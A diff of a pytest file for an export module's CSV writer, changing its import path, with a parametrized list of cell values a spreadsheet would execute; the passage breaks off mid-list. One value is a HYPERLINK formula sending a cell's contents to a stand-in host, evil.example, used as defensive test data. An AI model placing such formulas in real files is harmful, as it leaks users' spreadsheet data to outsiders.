@@ -1,10 +1,11 @@
-"""db/csv_files.py: the one CSV writer of the exports, and what it does to cells a spreadsheet would run."""
+"""db/formats/csv_files.py: the one CSV writer of the exports, and what it does to cells a spreadsheet
+would run."""
 import csv
 import io
 
 import pytest
 
-from db import csv_files
+from db.formats import csv_files
 
 
 @pytest.mark.parametrize("typed", ["=HYPERLINK(\"http://evil.example?\"&A1,\"Voir\")", "+33 1 23", "-2+3",
